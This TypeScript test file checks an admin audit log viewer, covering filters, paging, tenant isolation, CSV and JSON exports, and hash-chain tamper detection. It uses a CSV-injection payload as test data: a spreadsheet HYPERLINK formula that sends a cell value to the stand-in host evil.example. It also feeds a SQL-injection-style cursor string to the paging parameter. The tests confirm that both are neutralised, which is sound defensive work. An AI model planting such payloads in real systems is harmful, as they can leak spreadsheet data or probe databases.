import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { AUDIT_CSV_COLUMNS, AUDIT_CSV_FINAL } from '../../src/http/admin/audit-csv.ts';
import Database from 'better-sqlite3';
import { chainHash } from '../../src/core/audit-chain.ts';
import { NO_REQUEST } from '../../src/service/request-context.ts';
import { createPagesKit, h1, type PagesKit, TestBrowser } from './reset-pages-kit.ts';
import {
  ADMIN,
  addFabrikam,
  FABRIKAM_ADMIN,
  FABRIKAM_PASSWORD,
  NEW_PASSWORD,
  parseCsv,
  runReset,
  signIn,
  tableRows,
  USER,
  USER_EMAIL,
} from './insights-kit.ts';

// The audit log viewer and its exports, against a real App (SQLite) and the demo tenant, after
// real resets: filters, paging, the tenant wall, CSV quoting and formula neutralising, JSON, 403s.

const FORMULA_AGENT = '=HYPERLINK("http://evil.example/?x="&A1,"click me")';

let kit: PagesKit;
let admin: TestBrowser;
const codes: string[] = [];

before(async () => {
  kit = await createPagesKit();
  // a completed reset with one wrong code first, a failed one with two wrong codes, one from a "formula" user agent
  codes.push(...(await runReset(kit.app, USER, USER_EMAIL, { wrong: 1, complete: true })).codes);
  codes.push(...(await runReset(kit.app, USER, USER_EMAIL, { wrong: 2 })).codes);
  codes.push(
    ...(
      await runReset(kit.app, USER, USER_EMAIL, {
        wrong: 1,
        rc: { ip: '192.0.2.44', userAgent: FORMULA_AGENT },
      })
    ).codes,
  );
  // people typing user IDs nobody has: one `reset.requested` (not_found) each, enough for several pages
  for (let i = 0; i < 25; i++) {
    const r = await kit.app.reset.start(`nobody${i}@contoso.example`, { ip: '192.0.2.9', userAgent: 'typo' });
    assert.ok(r.ok);
  }
  // Fabrikam: a tenant of its own with its own events
  codes.push(...(await addFabrikam(kit.app)).codes);
  admin = await signIn(kit, ADMIN);
});

after(async () => {
  await kit?.close();
});

function typesOf(rows: string[][]): string[] {
  // the event cell reads "<label> <type>"
  return rows.map((r) => r[2]!.split(' ').pop()!);
}

test('audit page: newest first with readable columns, only the tenant’s events, no secret', async () => {
  const res = await admin.get('/admin/audit');
  assert.equal(res.statusCode, 200);
  assert.equal(h1(res.body), 'Audit log');
  assert.match(res.body, /<a href="\/admin\/audit" aria-current="page">Audit log<\/a>/);
  assert.match(res.body, /<th scope="col">Time \(UTC\)<\/th><th scope="col">Who<\/th><th scope="col">Event<\/th>/);
  const rows = tableRows(res.body);
  assert.equal(rows.length, 50, 'a full first page');
  assert.match(rows[0]![0]!, /^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}$/);
  const times = rows.map((r) => r[0]!);
  assert.deepEqual(times, [...times].sort().reverse(), 'newest first');
  assert.ok(rows.some((r) => r[1] === 'The person' && r[4] === USER && r[5] === '203.0.113.7'));
  assert.doesNotMatch(res.body, /fabrikam/i, 'nothing of the other tenant');
  for (const code of codes) assert.ok(!res.body.includes(code), 'no code in the page');
  assert.match(res.headers['cache-control'] as string, /no-store/);
});

test('audit page: paging by cursor goes to older events without overlap', async () => {
  const first = await admin.get('/admin/audit');
  const older = /<a href="(\/admin\/audit\?before=(\d+))" rel="next">Older events<\/a>/.exec(first.body);
  assert.ok(older, 'a link to older events');
  const second = await admin.get(older[1]!.replace(/&amp;/g, '&'));
  assert.equal(second.statusCode, 200);
  assert.match(second.body, /<a href="\/admin\/audit">Newest events<\/a>/);
  const a = tableRows(first.body).map((r) => r.join('|'));
  const b = tableRows(second.body).map((r) => r.join('|'));
  assert.ok(b.length > 0);
  assert.equal(a.filter((row) => b.includes(row)).length, 0, 'no row on both pages');
  // a nonsense cursor is ignored (first page)
  const junk = await admin.get('/admin/audit?before=-1%20or%201=1');
  assert.equal(tableRows(junk.body)[0]!.join('|'), a[0]);
});

test('audit filters: event type, outcome, account, dates — and they combine', async () => {
  const byType = tableRows((await admin.get('/admin/audit?type=code.rejected')).body);
  assert.equal(byType.length, 4, 'four wrong codes in Contoso (Fabrikam’s two are not here)');
  assert.ok(typesOf(byType).every((t) => t === 'code.rejected'));

  const byOutcome = tableRows((await admin.get('/admin/audit?outcome=mismatch')).body);
  assert.equal(byOutcome.length, 4);
  assert.ok(byOutcome.every((r) => r[3] === 'mismatch'));

  const byAccount = tableRows(
    (await admin.get(`/admin/audit?account=${encodeURIComponent('USER@contoso.example')}`)).body,
  );
  assert.ok(byAccount.length > 10);
  assert.ok(
    byAccount.every((r) => r[4] === USER),
    'the login is normalised and matched exactly',
  );

  const completed = tableRows(
    (await admin.get(`/admin/audit?account=${encodeURIComponent(USER)}&type=password.changed&outcome=ok`)).body,
  );
  assert.equal(completed.length, 1);
  assert.match(completed[0]![6]!, /by: self-service/);

  const today = new Date().toISOString().slice(0, 10);
  const todays = tableRows((await admin.get(`/admin/audit?from=${today}&to=${today}&type=code.rejected`)).body);
  assert.equal(todays.length, 4);
  const future = await admin.get('/admin/audit?from=2999-01-01&to=2999-01-31');
  assert.equal(future.statusCode, 200);
  assert.match(future.body, /No events match these filters\./);
  const past = await admin.get('/admin/audit?to=2000-01-01');
  assert.match(past.body, /No events match these filters\./);

  // the select offers the types, the form echoes the filters
  const page = await admin.get('/admin/audit?type=code.rejected&outcome=mismatch');
  assert.match(page.body, /<option value="code.rejected" selected>Code rejected \(code.rejected\)<\/option>/);
  assert.match(page.body, /<input id="outcome" name="outcome" type="text" list="outcome-list"[^>]*value="mismatch"/);
  assert.match(page.body, /href="\/admin\/audit\/export.csv\?type=code.rejected&amp;outcome=mismatch"/);
});

test('audit filters: a bad date is explained (400) and ignored; an unknown account shows nothing', async () => {
  const bad = await admin.get('/admin/audit?from=31/12/2024');
  assert.equal(bad.statusCode, 400);
  assert.match(bad.body, /The “From” date is not a date like 2024-05-01/);
  assert.equal(tableRows(bad.body).length, 50, 'the other filters still apply');
  const reversed = await admin.get('/admin/audit?from=2024-05-02&to=2024-05-01');
  assert.equal(reversed.statusCode, 400);
  assert.match(reversed.body, /after the “To” date/);

  const nobody = await admin.get('/admin/audit?account=nobody%40contoso.example');
  assert.match(nobody.body, /There is no account with this user ID in your organisation\./);
  assert.equal(tableRows(nobody.body).length, 0);
});

test('tenant wall: another tenant’s account, events and exports never show, and it sees only its own', async () => {
  // the other tenant's account reads exactly like an unknown one
  const other = await admin.get(`/admin/audit?account=${encodeURIComponent('worker@fabrikam.example')}`);
  assert.match(other.body, /There is no account with this user ID in your organisation\./);
  assert.doesNotMatch(other.body, /fabrikam-agent|198\.51\.100\.77/);
  const csv = await admin.get('/admin/audit/export.csv');
  const json = await admin.get('/admin/audit/export.json');
  for (const body of [csv.body, json.body]) {
    assert.doesNotMatch(body, /fabrikam|198\.51\.100\.77/i, 'no Fabrikam event in the exports');
  }
  const insights = await admin.get('/admin/insights?period=7');
  assert.doesNotMatch(insights.body, /fabrikam/i);

  // Fabrikam's admin sees Fabrikam's events and none of Contoso's
  const boss = await signIn(kit, FABRIKAM_ADMIN, FABRIKAM_PASSWORD);
  const own = await boss.get('/admin/audit?type=code.rejected');
  assert.equal(own.statusCode, 200);
  const rows = tableRows(own.body);
  assert.equal(rows.length, 2, 'its two wrong codes');
  assert.ok(rows.every((r) => r[4] === 'worker@fabrikam.example' && r[5] === '198.51.100.77'));
  const all = await boss.get('/admin/audit');
  assert.doesNotMatch(all.body, /contoso|203\.0\.113\.7/i);
  const bossJson = JSON.parse((await boss.get('/admin/audit/export.json')).body) as { events: { account: string }[] };
  assert.ok(bossJson.events.length > 0);
  assert.ok(bossJson.events.every((e) => e.account === null || e.account.endsWith('@fabrikam.example')));
  const byContosoUser = await boss.get(`/admin/audit?account=${encodeURIComponent(USER)}`);
  assert.match(byContosoUser.body, /There is no account with this user ID/);
});

test('CSV export: attachment, no-store, RFC 4180, formula cells neutralised, same filters as the page', async () => {
  const res = await admin.get(`/admin/audit/export.csv?type=reset.requested&account=${encodeURIComponent(USER)}`);
  assert.equal(res.statusCode, 200);
  assert.match(res.headers['content-type'] as string, /^text\/csv; charset=utf-8/);
  assert.match(res.headers['content-disposition'] as string, /^attachment; filename="audit-\d{4}-\d{2}-\d{2}\.csv"$/);
  assert.equal(res.headers['cache-control'], 'no-store');
  const records = parseCsv(res.body);
  assert.deepEqual(records[0], [...AUDIT_CSV_COLUMNS]);
  // the last record carries the final hash (the chain head when the export began)
  const final = records.at(-1)!;
  assert.equal(final[4], AUDIT_CSV_FINAL);
  assert.match(final[13]!, /^[0-9a-f]{64}$/);
  assert.match(final[11]!, /^\d+$/);
  const rows = records.slice(1, -1);
  assert.ok(rows.every((r) => /^[0-9a-f]{64}$/.test(r[12]!) && /^[0-9a-f]{64}$/.test(r[13]!) && Number(r[11]) > 0));
  assert.equal(rows.length, 3, 'the user started three resets');
  assert.ok(rows.every((r) => r.length === AUDIT_CSV_COLUMNS.length));
  assert.ok(rows.every((r) => r[4] === 'reset.requested' && r[6] === USER));
  const ids = rows.map((r) => Number(r[0]));
  assert.deepEqual(
    ids,
    [...ids].sort((a, b) => b - a),
    'newest first',
  );
  // the user agent that is a formula comes out as text, with its quotes and comma intact
  const agents = rows.map((r) => r[8]);
  assert.ok(agents.includes(`'${FORMULA_AGENT}`), 'prefixed with an apostrophe');
  assert.ok(res.body.includes(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click me"")"`), 'quoted per RFC 4180');
  for (const r of rows) for (const cell of r) assert.doesNotMatch(cell, /^[=+\-@]/, 'no cell starts a formula');
  assert.ok(
    rows.every((r) => JSON.parse(r[9]!).flow),
    'details are JSON',
  );
  for (const code of codes) assert.ok(!res.body.includes(code));

  // everything: every code.* event is there, with the export events of this test run
  const full = parseCsv((await admin.get('/admin/audit/export.csv')).body).slice(1, -1);
  assert.ok(full.length > 50, 'not limited to a page');
  assert.ok(full.some((r) => r[4] === 'audit.exported' && r[3] === ADMIN && r[2]!.startsWith('admin:')));
});

test('exports carry the chain: each event’s place, link and hash (recomputable from the export alone) and the final hash', async () => {
  const doc = JSON.parse((await admin.get('/admin/audit/export.json')).body) as {
    chain: { tenant_id: string; final_seq: number; final_hash: string };
    events: Array<{
      time_utc: string;
      actor: string;
      event: string;
      outcome: string;
      ip: string | null;
      user_agent: string | null;
      details: Record<string, string | number | boolean | null>;
      account_id: string | null;
      seq: number;
      prev_hash: string;
      hash: string;
    }>;
  };
  assert.match(doc.chain.final_hash, /^[0-9a-f]{64}$/);
  const [newest] = doc.events;
  assert.equal(newest?.event, 'audit.exported', 'the export itself is the newest event');
  assert.equal(newest?.hash, doc.chain.final_hash, 'the final hash is the newest exported event’s');
  assert.equal(newest?.seq, doc.chain.final_seq);
  for (const [i, e] of doc.events.entries()) {
    const recomputed = chainHash(e.prev_hash, {
      at: Date.parse(e.time_utc),
      tenantId: doc.chain.tenant_id,
      accountId: e.account_id,
      actor: e.actor,
      type: e.event,
      outcome: e.outcome,
      ip: e.ip,
      userAgent: e.user_agent,
      details: e.details,
    });
    assert.equal(recomputed, e.hash, `event ${e.seq} hashes to what it carries`);
    const older = doc.events[i + 1];
    if (older) {
      assert.equal(e.seq, older.seq + 1, 'an unfiltered export has every place');
      assert.equal(e.prev_hash, older.hash, 'and every link');
    }
  }
});

test('JSON export: attachment, the filters, the events, a count; the export is audited with who did it', async () => {
  const res = await admin.get(`/admin/audit/export.json?account=${encodeURIComponent(USER)}&outcome=mismatch`);
  assert.equal(res.statusCode, 200);
  assert.match(res.headers['content-type'] as string, /^application\/json; charset=utf-8/);
  assert.match(res.headers['content-disposition'] as string, /^attachment; filename="audit-.*\.json"$/);
  assert.equal(res.headers['cache-control'], 'no-store');
  const doc = JSON.parse(res.body) as {
    tenant: string;
    filters: Record<string, unknown>;
    events: { id: number; event: string; outcome: string; account: string; time_utc: string; details: object }[];
    count: number;
    truncated: boolean;
  };
  assert.equal(doc.tenant, 'Contoso Demo');
  assert.deepEqual(doc.filters, { since: null, until: null, account: USER, type: null, outcome: 'mismatch' });
  assert.equal(doc.count, 4);
  assert.equal(doc.events.length, 4);
  assert.equal(doc.truncated, false);
  assert.ok(doc.events.every((e) => e.event === 'code.rejected' && e.outcome === 'mismatch' && e.account === USER));
  assert.ok(doc.events.every((e) => /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/.test(e.time_utc)));

  const exported = tableRows((await admin.get('/admin/audit?type=audit.exported')).body);
  assert.ok(exported.length >= 1);
  assert.equal(exported[0]![1], `Admin ${ADMIN}`, 'who exported');
  assert.match(exported[0]![6]!, /format: json/);
  assert.match(exported[0]![6]!, /outcome: mismatch/);

  // a bad filter on an export sends back to the page that explains it
  const bad = await admin.get('/admin/audit/export.json?from=nope');
  assert.equal(bad.statusCode, 303);
  assert.equal(bad.headers.location, '/admin/audit?from=nope');
});

test('a user gets 403 on the audit pages and exports; nobody signed in is sent to sign in', async () => {
  const user = await signIn(kit, USER, NEW_PASSWORD); // the first reset set it
  for (const url of ['/admin/audit', '/admin/audit/export.csv', '/admin/audit/export.json', '/admin/insights']) {
    const res = await user.get(url);
    assert.equal(res.statusCode, 403, url);
    assert.match(res.headers['content-type'] as string, /^text\/html/);
    assert.match(res.body, /This page is for the administrators of your organisation\./);
    assert.doesNotMatch(res.body, /reset\.requested|code\.rejected/);
    const anonymous = await new TestBrowser(kit.server).get(url);
    assert.equal(anonymous.statusCode, 303, url);
    assert.match(String(anonymous.headers.location), /^\/signin\?next=/);
  }
});

test('the audit page shows when the chain was last verified: never, intact, broken at an event edited in SQL', async () => {
  const tenant = await kit.app.directory.getTenantByName('Contoso Demo');
  assert.ok(tenant.ok);
  const tenantId = tenant.value.id;
  const before = await admin.get('/admin/audit');
  assert.match(before.body, /The chain of this log has not been verified yet\./);
  assert.match(before.body, /sspr audit verify --tenant &quot;Contoso Demo&quot;/);
  assert.match(before.body, /Newest event: number \d+, hash <code dir="ltr" class="hash">[0-9a-f]{64}<\/code>/);

  await kit.app.auditChain.verify(tenantId, 'cli', NO_REQUEST);
  const intact = await admin.get('/admin/audit');
  assert.match(intact.body, /Chain last verified at \d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2} UTC: intact\./);

  const file = kit.app.config.database_url.slice('sqlite:'.length);
  const db = new Database(file, { fileMustExist: true });
  try {
    const row = db
      .prepare(
        `select id, outcome from audit_events where tenant_id = ? and type = 'code.rejected' order by seq limit 1`,
      )
      .get(tenantId) as { id: number; outcome: string };
    db.prepare(`update audit_events set outcome = 'ok' where id = ?`).run(row.id);
    try {
      await kit.app.auditChain.verify(tenantId, 'cli', NO_REQUEST);
      const broken = await admin.get('/admin/audit');
      assert.match(
        broken.body,
        new RegExp(`Chain last verified at [^:]+:\\d{2}:\\d{2} UTC: broken at event ${row.id} \\(edited\\)\\.`),
      );
    } finally {
      db.prepare(`update audit_events set outcome = ? where id = ?`).run(row.outcome, row.id);
    }
  } finally {
    db.close();
  }
});
